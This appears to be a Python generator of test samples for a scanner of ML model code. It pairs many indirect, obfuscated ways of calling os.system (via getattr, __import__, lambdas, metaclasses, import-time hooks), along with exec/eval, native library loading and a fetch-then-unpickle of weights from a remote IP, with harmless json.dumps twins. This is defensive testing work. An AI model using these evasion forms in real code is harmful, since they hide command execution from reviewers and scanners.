"""Python beside a model in which a module or function goes a long way round before it is called: each attack stands beside a
twin of the same shape that does nothing of weight.

`M`, `F` and `A` stand for the module, its function and its argument: `os`, `system` and a command in the attack, `json`,
`dumps` and a text in the twin.
"""
import re

FORMS = {
    # Parameters
    "lambda_parameter": "import M\n(lambda o: o.F(A))(M)\n",
    "lambda_default": "import M\n(lambda o=M: o.F(A))()\n",
    "lambda_kept": "r = lambda o: o.F(A)\nr(__import__('M'))\n",
    "lambda_curried": "import M\n(lambda m: lambda a: m.F(a))(M)(A)\n",
    "lambda_result": "g = lambda: __import__('M')\ng().F(A)\n",
    "lambda_keywords": "import M\n(lambda **o: o['k'].F(A))(k=M)\n",
    "parameter": "import M\ndef f(m):\n    m.F(A)\nf(M)\n",
    "parameter_default": "import M\ndef f(m=M.F):\n    m(A)\nf()\n",
    "parameter_keyword": "import M\ndef f(x, m=None):\n    m.F(A)\nf(1, m=M)\n",
    "parameters_chained": "import M\ndef h(m, n):\n    n.F(A)\ndef g(m):\n    h(0, m)\ndef f(m):\n    g(m)\nf(M)\n",
    "parameter_star": "import M\ndef f(*a):\n    a[0].F(A)\nf(M)\n",
    "parameter_unpacked": "import M\ndef f(m):\n    m.F(A)\nf(**{'m': M})\n",
    "closure": "import M\ndef outer(m):\n    def inner(a):\n        m.F(a)\n    return inner\nouter(M)(A)\n",
    "identity": "import M\ndef i(x):\n    return x\ni(M).F(A)\n",
    "method_parameter": "import M\nclass C:\n    def f(self, m):\n        m.F(A)\nC().f(M)\n",
    "constructor_parameter": "import M\nclass C:\n    def __init__(self, m):\n        self.z = m\n    def go(self):\n        self.z.F(A)\nC(M).go()\n",
    # Comprehensions and loops
    "comprehension": "[m.F(A) for m in [__import__('M')]]\n",
    "comprehension_two": "import M\n[m.F(A) for ms in [[M]] for m in ms]\n",
    "comprehension_condition": "import M\n[1 for m in [M] if m.F(A)]\n",
    "comprehension_function": "import M\n[f(A) for f in [M.F]]\n",
    "comprehension_zip": "import M\n[f(a) for f, a in zip([M.F], [A])]\n",
    "comprehension_getattr": "import M\n[getattr(M, n)(A) for n in dir(M) if n == 'F']\n",
    "comprehension_import": "[__import__(n).F(A) for n in ['M']]\n",
    "generator_any": "import M\nany(m.F(A) for m in (M,))\n",
    "loop_modules": "import M, sys\nfor n, m in list(sys.modules.items()):\n    if n == 'M':\n        m.F(A)\n",
    # Containers and objects
    "dictionary_call": "d = dict(k=__import__('M'))\nd['k'].F(A)\n",
    "dictionary_item_set": "import M\nd = {}\nd['k'] = M.F\nd['k'](A)\n",
    "list_append": "import M\nl = []\nl.append(M)\nl[0].F(A)\n",
    "namedtuple": "import M, collections\nP = collections.namedtuple('P', 'm')\nP(M).m.F(A)\n",
    "namespace": "import M, types\nn = types.SimpleNamespace(m=M)\nn.m.F(A)\n",
    "queue": "import M, queue\nq = queue.Queue()\nq.put(M)\nq.get().F(A)\n",
    "class_import": "class C:\n    import M\nC.M.F(A)\n",
    "property": "import M\nclass C:\n    @property\n    def m(self):\n        return M\nC().m.F(A)\n",
    "context_manager": "import M, contextlib\nwith contextlib.nullcontext(M) as m:\n    m.F(A)\n",
    "match": "import M\nmatch [M]:\n    case [m]:\n        m.F(A)\n",
    "exception": "import M\ntry:\n    raise Exception(M)\nexcept Exception as e:\n    e.args[0].F(A)\n",
    "global_name": "import M\ndef f():\n    global z\n    z = M\nf()\nz.F(A)\n",
    "globals_item": "import M\nglobals()['z'] = M\nz.F(A)\n",
    "enumeration": "import M, enum\nclass E(enum.Enum):\n    X = (M,)\nE.X.value[0].F(A)\n",
    # Attributes by name
    "attribute_format": "import M\ngetattr(M, '{a}{b}'.format(a='F1', b='F2'))(A)\n",
    "attribute_slice": "import M\ngetattr(M, 'xxF'[2:])(A)\n",
    "attribute_characters": "import M\ngetattr(M, ''.join(chr(c - 1) for c in [ORDS]))(A)\n",
    "attribute_parameter": "import M\ndef f(n):\n    return getattr(M, n)\nf('F')(A)\n",
    "attribute_members": "import M, inspect\ndict(inspect.getmembers(M))['F'](A)\n",
    "attribute_namespace": "import M\n[v for k, v in vars(M).items() if k == 'F'][0](A)\n",
    "method_caller_map": "import M, operator\nlist(map(operator.methodcaller('F', A), [M]))\n",
    "reduce_getattr": "import M, functools\nfunctools.reduce(getattr, ['F'], M)(A)\n",
    # Imports
    "import_map": "next(map(__import__, ['M'])).F(A)\n",
    "import_partial": "import functools\nfunctools.partial(__import__, 'M')().F(A)\n",
    "import_bootstrap": "import importlib._bootstrap as b\nb._gcd_import('M').F(A)\n",
    "import_parameter": "def f(n):\n    return __import__(n)\nf('M').F(A)\n",
    # Callbacks, and what the machinery of classes calls
    "map_lambda": "import M\nlist(map(lambda m: m.F(A), [M]))\n",
    "sorted_key": "import M\nsorted([M], key=lambda m: str(m.F(A)))\n",
    "thread_argument": "import M, threading\ndef f(m):\n    m.F(A)\nx = threading.Thread(target=f, args=(M,))\nx.start()\n",
    "partial_own": "import M, functools\ndef f(m):\n    m.F(A)\nfunctools.partial(f, M)()\n",
    "decorator_factory": "import M\ndef d(m):\n    def w(f):\n        m.F(A)\n        return f\n    return w\n@d(M)\ndef g(): pass\n",
    "descriptor": "import M\nclass D:\n    def __get__(s, o, t):\n        return M\nclass Y:\n    x = D()\nY.x.F(A)\n",
    "class_item": "import M\nclass Y:\n    def __class_getitem__(c, k):\n        return M\nY[0].F(A)\n",
    "subclass_keyword": "import M\nclass X:\n    def __init_subclass__(c, m):\n        m.F(A)\nclass Y(X, m=M): pass\n",
    "attribute_hook": "import M\nclass Y:\n    def __getattr__(s, n):\n        return getattr(M, n)\nY().F(A)\n",
    "forward_helper": "import M\ndef h(m):\n    m.F(A)\nclass Net:\n    def forward(self, x):\n        h(M)\n",
}

# What runs on import by way of the file's own functions.
RUN_ON_IMPORT = {
    "thread_own": "import M, threading\ndef f():\n    M.F(A)\nthreading.Thread(target=f).start()\n",
    "exit_own": "import M, atexit\n@atexit.register\ndef f():\n    M.F(A)\n",
    "codec_own": "import M, codecs\ndef s(n):\n    M.F(A)\ncodecs.register(s)\n",
    "signal_own": "import M, signal\ndef h(*a):\n    M.F(A)\nsignal.signal(signal.SIGUSR1, h)\n",
    "metaclass_function": "import M\ndef x(*a):\n    M.F(A)\nclass Y(metaclass=x): pass\n",
    "decorator_method": "import M\nclass N:\n    def d(self, f):\n        M.F(A)\n@N().d\ndef g(): pass\n",
    "truth": "import M\nclass Y:\n    def __bool__(s):\n        M.F(A)\n        return True\nif Y(): pass\n",
}

# Code that is run in ways of its own, beside a harmless neighbour.
PAIRS = {
    "exec_renamed": ("e = exec\ne('x = 1')\n", "e = print\ne('x = 1')\n"),
    "exec_qualified": ("import builtins\nbuiltins.exec('x = 1')\n", "import builtins\nbuiltins.print('x = 1')\n"),
    "exec_compiled": ("c = compile('import os', 'x', 'exec')\nexec(c)\n", "import re\nc = re.compile('x')\nc.match('x')\n"),
    "eval_configuration": ("def f(cfg):\n    return eval(cfg['expr'])\n", "def f(cfg):\n    return float(cfg['expr'])\n"),
    "eval_formatted": ("m = 'os'\neval(f\"__import__('{m}').system('echo')\")\n", "m = 'os'\nprint(f\"{m} echo\")\n"),
    "build_native": ("import torch.utils.cpp_extension as e\ne.load_inline('x', 'int main(){}')\n",
                     "import torch.utils.data as e\ne.DataLoader([1])\n"),
    "native_item": ("import ctypes\nctypes.cdll['libassay.so']\n", "import ctypes\nctypes.sizeof(ctypes.c_int)\n"),
    "native_operators": ("import onnxruntime as o\ns = o.SessionOptions()\ns.register_custom_ops_library('./libassay.so')\n",
                         "import onnxruntime as o\ns = o.SessionOptions()\n"),
    "fetched_weights": ("import torch, urllib.request\nf, _ = urllib.request.urlretrieve('http://198.51.100.7/x.pt')\n"
                        "torch.load(f, weights_only=False)\n", "import torch\ntorch.load('x.pt', weights_only=True)\n"),
    "file_as_module": ("import importlib.util as u\ns = u.spec_from_file_location('x', 'weights.bin')\n"
                       "m = u.module_from_spec(s)\ns.loader.exec_module(m)\n",
                       "import importlib.util as u\ns = u.spec_from_file_location('x', 'helper.py')\n"),
}


def fill(form, module, function, argument):
    half = len(function) // 2
    words = {"ORDS": ",".join(str(ord(letter) + 1) for letter in function), "F1": function[:half], "F2": function[half:],
             "xxF": "xx" + function, "M": module, "F": function, "A": argument}
    return re.sub(r"(?<![A-Za-z0-9])(ORDS|F1|F2|xxF|M|F|A)(?![A-Za-z0-9])", lambda hit: words[hit[1]], form)


def build(samples):
    for forms, severity in ((FORMS, "medium"), (RUN_ON_IMPORT, "high")):
        for name, form in forms.items():
            attack, twin = fill(form, "os", "system", "'echo assay'"), fill(form, "json", "dumps", "'echo assay'")
            samples.attack(f"python_flow/{name}/modeling_x.py", attack, f"source: {name}", severity, "python")
            samples.benign(f"python_flow/{name}/modeling_x.py", twin, f"source: {name}", "python")
    for name, (attack, twin) in PAIRS.items():
        samples.attack(f"python_flow/{name}/modeling_x.py", attack, f"source: {name}", "medium", "python")
        samples.benign(f"python_flow/{name}/modeling_x.py", twin, f"source: {name}", "python")
